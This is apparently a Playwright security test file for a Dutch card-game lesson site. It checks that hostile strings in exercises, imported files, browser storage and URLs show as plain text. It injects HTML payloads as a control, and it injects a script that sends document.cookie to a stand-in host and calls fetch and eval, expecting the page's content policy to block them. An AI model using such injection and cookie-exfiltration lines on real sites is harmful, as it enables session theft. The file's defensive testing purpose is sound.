"""Hostile words in an exercise, a name, an import or an address: a page shows them as words."""

import json
from urllib.parse import quote

import pytest
from playwright.sync_api import expect
from records import answer
from visitors import HOSTILE

from klaverles.lessons.exported import export_text

WATCH = """
window.cracked = 0;
window.kraak = () => { window.cracked += 1; };
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => refused.push(event.blockedURI));
"""
LONG = "W" * 900 + "\u202e\u200f" + HOSTILE


class Watched:
    """A page in which what hostile words could do is counted."""

    def __init__(self, page, url):
        self.page, self.url, self.asked, self.wrong = page, url, [], []
        page.add_init_script(WATCH)
        page.on("request", lambda sent: self.asked.append(sent.url))
        page.on("pageerror", lambda error: self.wrong.append(str(error)))
        page.on("dialog", lambda dialog: (self.wrong.append(dialog.message), dialog.dismiss()))

    def visit(self, file, *, ready=True):
        self.page.goto(f"{self.url}voila/render/{file}")
        if ready:
            html = self.page.locator("html")
            expect(html).to_have_attribute("data-ready", "true", timeout=60_000)
        return self.page

    def is_unharmed(self):
        """Nothing ran, nothing was asked for, and no element came of the words."""
        page = self.page
        assert page.evaluate("cracked") == 0
        assert not [url for url in self.asked if url.endswith("/kraak")]
        assert page.locator("img[src='/kraak'], [onerror], a[href^='javascript:']").count() == 0
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert page.evaluate("refused") == []
        assert self.wrong == []


@pytest.fixture
def watched(page, room):
    page.set_viewport_size({"width": 360, "height": 800})
    return Watched(page, room.url)


def test_such_words_would_run_in_a_page_that_is_not_careful(watched):
    """The control: put into the page as HTML, they run, and that is seen."""
    page = watched.visit("00_start.ipynb")
    page.evaluate("(words) => document.body.insertAdjacentHTML('beforeend', words)", HOSTILE)
    page.wait_for_timeout(1000)
    assert page.evaluate("cracked") > 0
    with pytest.raises(AssertionError):
        watched.is_unharmed()


def test_words_of_an_exercise(watched):
    """Title, question, goals, tips and explanation, on its page and on the start page."""
    page = watched.visit("00_start.ipynb")
    expect(page.locator("main")).to_contain_text(HOSTILE)
    watched.is_unharmed()
    page = watched.visit("eigen_vijandig.ipynb")
    expect(page.locator("h1")).to_contain_text(HOSTILE)
    assert HOSTILE in page.title()
    first = page.locator("[data-question=welke-kaarten-mogen]")
    first.get_by_role("button", name="Tip").click()
    expect(first).to_contain_text(HOSTILE)
    expect(page.locator("[data-question=moet-je-hier-troeven]")).to_contain_text("<script>")
    watched.is_unharmed()


def test_words_of_an_import(watched):
    """A progress file in which every text is hostile is read on the progress page."""
    page = watched.visit("voortgang.ipynb")
    words = dict.fromkeys(("place", "name", "unit", "rules", "table", "mistake", "round"), LONG)
    records = [answer(number, **words) for number in range(3)]
    records += [answer(9, unit=HOSTILE), answer(10, place=HOSTILE), answer(11, name=HOSTILE)]
    text = export_text(records).encode()
    file = {"name": f"{HOSTILE.replace('/', '_')}.json", "mimeType": "application/json"}
    page.locator("input[type=file]").set_input_files([{**file, "buffer": text}])
    expect(page.locator("main")).to_contain_text("weer aan de beurt")  # so it was read
    watched.is_unharmed()
    file["buffer"] = json.dumps({"klaverles": "voortgang", "versie": HOSTILE}).encode()
    page.locator("input[type=file]").set_input_files([file])
    expect(page.locator("main")).to_contain_text("Dit is geen bestand van klaverles")
    watched.is_unharmed()


def test_words_that_a_browser_kept(watched):
    """Whatever stands in its storage, for instance by another page of the same address."""
    page = watched.visit("02_bekennen.ipynb")
    page.evaluate(
        """(words) => {
          for (const kept of [localStorage, sessionStorage]) {
            for (let at = 0; at < kept.length; at++) kept.setItem(kept.key(at), words);
            for (const name of ["klaverles-tafel", "klaverles-partij", "klaverles-scoreblok"]) {
              kept.setItem(name, words);
            }
          }
        }""",
        json.dumps({"variant": HOSTILE, "records": [HOSTILE]}),
    )
    for file in ("02_bekennen.ipynb", "scoreblok.ipynb", "16_huisregels.ipynb"):
        watched.visit(file)
        watched.is_unharmed()


def test_words_in_an_address(watched):
    """As a question, as a place in the page, and as a page that does not exist."""
    words = quote(HOSTILE, safe="")
    page = watched.visit(f"02_bekennen.ipynb?{words}={words}#{words}")
    watched.is_unharmed()
    page = watched.visit(f"{words}.ipynb", ready=False)
    expect(page.locator("h1")).to_have_text("Deze pagina bestaat niet")
    watched.is_unharmed()


def test_a_page_runs_no_text_as_code_and_asks_nothing_elsewhere(watched):
    """Also if a script in it wants to; all that our own pages need is allowed."""
    page = watched.visit("02_bekennen.ipynb")
    watched.is_unharmed()
    page.evaluate(
        """(code) => {
          const script = document.createElement("script");
          script.textContent = code;
          document.body.append(script);
        }""",
        """
        setTimeout(() => {  // by then Playwright's own leave to do anything has ended
          try { eval("window.evaluated = true"); } catch { window.evaluated = false; }
        });
        new Image().src = "http://127.0.0.1:9/kraak?" + document.cookie;
        fetch("http://127.0.0.1:9/").catch(() => {});
        """,
    )
    page.wait_for_timeout(1000)
    refused = page.evaluate("refused")
    assert len([address for address in refused if "127.0.0.1:9" in address]) == 2, refused
    assert page.evaluate("evaluated") is False


def test_our_page_does_not_stand_in_another_site(watched, page):
    """In a frame elsewhere the browser shows nothing of it, and no kernel is started."""
    page.set_content(f"<iframe src='{watched.url}voila/render/02_bekennen.ipynb'></iframe>")
    page.wait_for_timeout(1500)
    frame = page.frames[-1]
    assert "kl-page" not in frame.content()
